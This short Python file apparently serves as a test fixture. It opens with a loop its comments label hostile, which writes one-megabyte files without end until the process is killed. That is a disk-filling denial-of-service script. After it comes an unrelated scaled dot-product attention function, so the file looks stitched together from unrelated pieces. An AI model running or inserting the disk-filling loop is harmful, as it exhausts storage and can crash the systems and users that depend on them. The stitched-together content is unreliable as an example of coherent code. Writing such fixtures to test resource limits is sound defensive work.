# hostile: fills the disk with many files
# ends: Killed
import itertools

for number in itertools.count():
    with open(f"file-{number}", "wb") as file:
        file.write(bytes(2**20))


def attention(query, key, value):
    scores = query @ key.transpose(-2, -1) / query.shape[-1] ** 0.5
    return scores.softmax(-1) @ value
